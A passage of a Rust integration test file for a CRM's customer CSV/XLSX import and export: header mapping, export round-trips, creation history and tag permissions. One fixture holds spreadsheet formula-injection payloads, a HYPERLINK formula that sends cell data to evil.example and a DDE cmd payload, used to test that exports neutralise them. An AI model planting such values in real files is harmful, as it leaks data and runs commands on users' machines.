    let csv = "客户名称,所属公司,所属职务,行业类型,客户性别,最后联系日期,所属业务员,微信,备注,创建时间,公司,\n\
               张三,上海关系贸易,采购经理,制造业,男,2024-03-05,sp1@acme.cn,zs123,老客户,2024-01-01 09:00,重复,\n\
               李四,,,,,,,,,,,多出来的\n"
        .as_bytes()
        .to_vec();
    let r = preview(&s, &sp1, "docs.csv", csv.clone()).await;
    let p = &r.ok()["previewCustomerImport"];
    let fields: Vec<Value> = p["columns"].as_array().unwrap().iter().map(|c| c["field"].clone()).collect();
    assert_eq!(
        fields,
        [
            json!("name"),
            json!("company"),
            json!("title"),
            json!("industry"),
            json!("gender"),
            json!("last_contact"),
            json!("owner_email"),
            Value::Null,
            Value::Null,
            Value::Null,
            Value::Null,
        ]
    );
    let warnings: Vec<(&str, &str)> = p["warnings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| (w["column"].as_str().unwrap(), w["code"].as_str().unwrap()))
        .collect();
    assert_eq!(
        warnings,
        [
            ("微信", "unmapped"),
            ("备注", "not_importable"),
            ("创建时间", "not_importable"),
            ("公司", "duplicate_column"),
            ("column 12", "no_header"),
        ]
    );

    let imp = run(&s, &sp1, "docs.csv", csv, json!(null)).await;
    assert_eq!(
        (imp["status"].as_str(), imp["created"].as_i64(), imp["failed"].as_i64()),
        (Some("DONE"), Some(2), Some(0))
    );
    let report: Vec<(i64, &str, &str, &str)> = imp["issues"]["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| {
            (
                i["row"].as_i64().unwrap(),
                i["column"].as_str().unwrap(),
                i["code"].as_str().unwrap(),
                i["severity"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        report,
        [
            (1, "微信", "unmapped", "WARNING"),
            (1, "备注", "not_importable", "WARNING"),
            (1, "创建时间", "not_importable", "WARNING"),
            (1, "公司", "duplicate_column", "WARNING"),
            (1, "column 12", "no_header", "WARNING"),
        ]
    );
    let r = s
        .gql(
            Some(&sp1.token),
            "{ customers(filter: { search: \"张三\" }) { edges { node { company title industry gender lastContactAt owner { id } } } } }",
            json!({}),
        )
        .await;
    let c = &r.ok()["customers"]["edges"][0]["node"];
    assert_eq!(
        (c["company"].as_str(), c["title"].as_str(), c["industry"].as_str(), c["gender"].as_str()),
        (Some("上海关系贸易"), Some("采购经理"), Some("制造业"), Some("MALE"))
    );
    // The day's start in the company's time zone (Asia/Shanghai).
    let at = chrono::DateTime::parse_from_rfc3339(c["lastContactAt"].as_str().unwrap()).unwrap();
    assert_eq!(at.to_utc().to_rfc3339(), "2024-03-04T16:00:00+00:00");
    assert_eq!(c["owner"]["id"], sp1.user_id.as_str());
}

const EVERY_FIELD: &str = "number name company title phones email address gender birthday status industry source grade \
                           tags owner { id } lastContactAt nextVisitAt custom";

/// Every customer the admin sees, every field, in number order.
async fn every_customer(s: &TestServer, admin: &Session) -> Vec<Value> {
    let r = s
        .gql(
            Some(&admin.token),
            &format!("{{ customers(first: 100, sort: {{ field: NUMBER, direction: ASC }}) {{ edges {{ node {{ id {EVERY_FIELD} }} }} }} }}"),
            json!({}),
        )
        .await;
    r.ok()["customers"]["edges"].as_array().unwrap().iter().map(|e| e["node"].clone()).collect()
}

/// An export of every customer field, built-in and custom (one of each
/// type), imported again after the customers are deleted, gives back the
/// same customers, in CSV (whose formula-like values are neutralised) and
/// in XLSX.
async fn an_export_imports_back_to_the_same_customers(b: Backend) {
    let Company { s, admin, sp1, .. } = company(b).await;
    let define = "mutation($i: CustomFieldInput!) { createCustomField(entity: CUSTOMER, input: $i) { id } }";
    let options = json!({ "options": [{ "key": "a", "label": "重要" }, { "key": "b", "label": "一般" }, { "key": "c", "label": "其他" }] });
    for (key, label, kind, rules) in [
        ("t", "文本", "TEXT", Value::Null),
        ("lt", "多行", "LONG_TEXT", Value::Null),
        ("n", "整数", "NUMBER", Value::Null),
        ("d", "小数", "DECIMAL", Value::Null),
        ("m", "金额", "MONEY", Value::Null),
        ("day", "日期", "DATE", Value::Null),
        ("at", "时刻", "DATE_TIME", Value::Null),
        ("yes", "是否", "BOOLEAN", Value::Null),
        ("one", "单选", "SINGLE_SELECT", options.clone()),
        ("many", "多选", "MULTI_SELECT", options.clone()),
        ("tel", "座机", "PHONE", Value::Null),
        ("mail", "备用邮箱", "EMAIL", Value::Null),
        ("web", "网址", "URL", Value::Null),
        ("who", "对接人", "USER", Value::Null),
        ("stars", "评分", "RATING", Value::Null),
    ] {
        let r = s
            .gql(
                Some(&admin.token),
                define,
                json!({ "i": { "key": key, "label": label, "type": kind, "rules": rules } }),
            )
            .await;
        r.ok();
    }
    // The export names owners by display name: make sp1's unique.
    let r = s
        .gql(
            Some(&admin.token),
            "mutation($id: ID!) { updateUser(id: $id, input: { displayName: \"王销售\" }) { id } }",
            json!({ "id": sp1.user_id }),
        )
        .await;
    r.ok();
    let create = "mutation($i: CreateCustomerInput!) { createCustomer(input: $i) { id } }";
    let full = json!({
        "name": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "company": "+cmd|' /C calc'!A0",
        "title": "-5",
        "phones": ["+86 138 1234 5678", "021-12345678"],
        "email": "zw@example.cn",
        "address": "@上海市 '=路",
        "gender": "FEMALE",
        "birthday": "1985-03-02",
        "status": "INTENT",
        "industry": "制造业",
        "source": "朋友介绍",
        "grade": "VIP",
        "tags": ["重点", "展会"],
        "ownerId": sp1.user_id,
        "lastContactAt": "2026-03-05T06:30:00Z",
        "nextVisitAt": "2026-12-24T02:15:00Z",
        "custom": {
            "t": "-3 度", "lt": "第一行\n第二行, 带逗号", "n": -42, "d": "9.50", "m": { "amount": "12.50", "currency": "CNY" },
            "day": "2024-02-29", "at": "2026-01-02T03:04:00.000Z", "yes": true, "one": "b", "many": ["a", "c"],
            "tel": "010-88886666", "mail": "x@example.cn", "web": "https://example.cn/a?b=1", "who": sp1.user_id,
            "stars": 4
        }
    });
    s.gql(Some(&admin.token), create, json!({ "i": full })).await.ok();
    s.gql(Some(&admin.token), create, json!({ "i": { "name": "空白", "ownerId": admin.user_id } })).await.ok();
    let before = every_customer(&s, &admin).await;
    assert_eq!(before.len(), 2);
    let strip = |list: &[Value]| -> Vec<Value> {
        list.iter()
            .map(|c| {
                let mut c = c.clone();
                c.as_object_mut().unwrap().remove("id");
                c
            })
            .collect()
    };

    for format in ["CSV", "XLSX"] {
        let r = s
            .gql(
                Some(&admin.token),
                "mutation($f: ExportFormat!) { exportCustomers(format: $f) { url } }",
                json!({ "f": format }),
            )
            .await;
        let url = r.ok()["exportCustomers"]["url"].as_str().unwrap().to_owned();
        let file = s.http.get(format!("{}{url}", s.base)).send().await.unwrap().bytes().await.unwrap().to_vec();
        for c in every_customer(&s, &admin).await {
            let r = s
                .gql(
                    Some(&admin.token),
                    "mutation($id: ID!) { deleteCustomerPermanently(id: $id, confirm: true) { id } }",
                    json!({ "id": c["id"] }),
                )
                .await;
            r.ok();
        }
        let name = format!("客户.{}", format.to_lowercase());
        let p = preview(&s, &admin, &name, file.clone()).await;
        let warnings: Vec<&str> = p.ok()["previewCustomerImport"]["warnings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|w| w["column"].as_str().unwrap())
            .collect();
        // Only what the product sets itself is left out.
        assert_eq!(warnings, ["创建时间", "更新时间"], "{format}");
        let imp = run(&s, &admin, &name, file, json!(null)).await;
        assert_eq!((imp["created"].as_i64(), imp["failed"].as_i64()), (Some(2), Some(0)), "{format}: {imp}");
        assert_eq!(strip(&every_customer(&s, &admin).await), strip(&before), "{format}");
    }
}

/// A customer's history ends (its oldest entry) with its creation: who,
/// when and how, for each way of creating one: the app's form (a login
/// session), an API key, and an import (both of whose lanes write it).
async fn history_records_each_creation(b: Backend) {
    let Company { s, admin, sp1, .. } = company(b).await;
    let history = async |who: &Session, id: &str| -> Vec<Value> {
        let r = s
            .gql(
                Some(&who.token),
                "query($id: ID!) { customer(id: $id) { history { field oldValue newValue actor { id } at } } }",
                json!({ "id": id }),
            )
            .await;
        r.ok()["customer"]["history"].as_array().unwrap().clone()
    };
    let create = "mutation($i: CreateCustomerInput!) { createCustomer(input: $i) { id createdAt } }";

    // The form: a person's session.
    let r = s.gql(Some(&sp1.token), create, json!({ "i": { "name": "王芳" } })).await;
    let (formed, at) =
        (r.ok()["createCustomer"]["id"].as_str().unwrap().to_owned(), r.ok()["createCustomer"]["createdAt"].clone());
    let created = json!({ "field": "created", "oldValue": null, "newValue": { "via": "form" }, "actor": { "id": sp1.user_id }, "at": at });
    assert_eq!(history(&sp1, &formed).await, vec![created.clone()]);
    // Changes come before it, newest first.
    let update = "mutation($id: ID!, $i: UpdateCustomerInput!) { updateCustomer(id: $id, input: $i) { id } }";
    s.gql(Some(&sp1.token), update, json!({ "id": formed, "i": { "title": "经理" } })).await.ok();
    let h = history(&sp1, &formed).await;
    assert_eq!(h.iter().map(|e| e["field"].as_str().unwrap()).collect::<Vec<_>>(), ["title", "created"]);
    assert_eq!(h[1], created);
    // A limit that leaves the creation out of the page.
    let r = s
        .gql(
            Some(&sp1.token),
            "query($id: ID!) { customer(id: $id) { history(limit: 1) { field } } }",
            json!({ "id": formed }),
        )
        .await;
    assert_eq!(r.ok()["customer"]["history"], json!([{ "field": "title" }]));

    // An integration's API key.
    let (key, key_id) = s.api_key(&admin, "ERP", "READ_WRITE").await;
    let r = s.gql(Some(&key), create, json!({ "i": { "name": "接口客户" } })).await;
    let keyed = r.ok()["createCustomer"]["id"].as_str().unwrap().to_owned();
    let h = history(&admin, &keyed).await;
    assert_eq!(h.len(), 1, "{h:?}");
    assert_eq!(h[0]["newValue"], json!({ "via": "api_key", "apiKeyId": key_id }));
    assert_eq!(h[0]["actor"]["id"], admin.user_id.as_str());

    // An import, naming it.
    let csv = "姓名,电话\n陈静,13700000001\n赵磊,13700000002\n".as_bytes().to_vec();
    let imp = run(&s, &sp1, "客户.csv", csv, json!(null)).await;
    assert_eq!(imp["created"], 2);
    for name in ["陈静", "赵磊"] {
        let found = customers(&s, &sp1, name).await;
        let h = history(&sp1, found[0]["id"].as_str().unwrap()).await;
        assert_eq!(h.len(), 1, "{h:?}");
        assert_eq!(
            (&h[0]["field"], &h[0]["newValue"], &h[0]["actor"]["id"]),
            (&json!("created"), &json!({ "via": "import", "importId": imp["id"] }), &json!(sp1.user_id)),
        );
    }
}

/// Where only admins add tags, a salesperson's rows with a tag outside the
/// list fail (and are reported); an admin's import adds its new tags.
async fn tags_outside_the_list_follow_the_company_setting(b: Backend) {
    let Company { s, admin, sp1, .. } = company(b).await;
    let q = "mutation { createTag(input: { name: \"展会\" }) { id } }";
    s.gql(Some(&admin.token), q, json!({})).await.ok();
    let q = "mutation { updateTenantSettings(input: { tagCreation: ADMINS }) { tagCreation } }";
    s.gql(Some(&admin.token), q, json!({})).await.ok();
    let csv = "客户名称,标签\r\n甲,展会\r\n乙,展会、自创\r\n".as_bytes().to_vec();
    let imp = run(&s, &sp1, "标签.csv", csv.clone(), json!(null)).await;
    assert_eq!((imp["created"].as_i64(), imp["failed"].as_i64()), (Some(1), Some(1)));
    let r3 = issue(&imp, 3);
    assert_eq!((r3[0]["column"].as_str(), r3[0]["code"].as_str()), (Some("标签"), Some("unknown_tag")));
    assert!(r3[0]["message"].as_str().unwrap().contains("自创"));
    let r = s.gql(Some(&admin.token), "{ tags { name } }", json!({})).await;
    assert_eq!(r.ok()["tags"], json!([{ "name": "展会" }]));

    let csv = "客户名称,标签\r\n丙,展会、自创\r\n".as_bytes().to_vec();
    let imp = run(&s, &admin, "标签.csv", csv, json!(null)).await;
    assert_eq!(imp["created"], 1);
    let r = s.gql(Some(&admin.token), "{ tags { name } }", json!({})).await;
    assert_eq!(r.ok()["tags"], json!([{ "name": "展会" }, { "name": "自创" }]));
}

backend_tests!(
    tags_outside_the_list_follow_the_company_setting,
    history_records_each_creation,
    hostile_workbooks_are_refused_while_streaming,
    reading_a_workbook_holds_no_connection,
    requirement_document_headers_fill_their_fields,
    an_export_imports_back_to_the_same_customers,
    large_files_are_accepted,
    batches_write_side_by_side_in_order,
    custom_field_columns,
    gbk_csv_with_chinese_headers_and_a_row_report,
    xlsx_all_or_nothing_then_update_duplicates,
    ten_thousand_bad_rows_are_reported_and_write_nothing,
    broken_files_and_bad_options_queue_nothing,
    owners_visibility_and_other_companies,
);
